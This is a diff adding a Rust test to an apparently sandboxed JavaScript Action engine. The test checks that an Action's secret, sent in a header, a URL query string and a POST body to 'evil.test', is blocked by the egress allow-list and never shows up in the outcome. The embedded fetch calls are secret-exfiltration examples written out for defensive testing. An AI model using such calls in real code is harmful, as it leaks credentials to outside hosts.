@@ -657,3 +657,34 @@ fn base64_decode(text: &str) -> Vec<u8> {
     use base64::Engine as _;
     base64::engine::general_purpose::STANDARD.decode(text).unwrap()
 }
+
+/// Catalog 37: an Action's real secret, in a header, the URL and the body of requests to
+/// hosts off the allow-list: refused before any connection, and the outcome (its request
+/// records included) holds no trace of the secret.
+#[test]
+fn secrets_sent_to_a_host_off_the_list_never_leave() {
+    let server = Server::http();
+    let port = server.addr.port();
+    let mut policy = local_policy(&TestCa::new());
+    policy.allow_host("api.test").unwrap();
+    let secret = "sk_live_catalog_37_c0ffee";
+    let source = action(&format!(
+        "const key = event.secrets.KEY;
+         const codes = [];
+         codes.push((await failure(fetch('http://127.0.0.1:{port}/h', {{ headers: {{ authorization: key }} }}))).code);
+         codes.push((await failure(fetch('http://127.0.0.1:{port}/u?key=' + key))).code);
+         codes.push((await failure(fetch('http://evil.test:{port}/b', {{ method: 'POST', body: key }}))).code);
+         return codes;"
+    ));
+    let action = block_on(engine().compile("secret.js", &source)).unwrap();
+    let mut options = ExecuteOptions::new();
+    options.egress(policy).secrets([("KEY".to_owned(), json!(secret))].into_iter().collect());
+    let outcome = block_on(engine().execute_with(Trigger::PostLogin, &action, &event(), &options)).unwrap();
+    assert_eq!(
+        logged(&outcome),
+        json!(["ERR_ACTIONBOX_HOST_NOT_ALLOWED", "ERR_ACTIONBOX_HOST_NOT_ALLOWED", "ERR_ACTIONBOX_HOST_NOT_ALLOWED"])
+    );
+    assert_eq!(server.connections(), 0, "nothing reached the listener");
+    let text = serde_json::to_string(&outcome).unwrap();
+    assert!(!text.contains(secret), "{text}");
+}
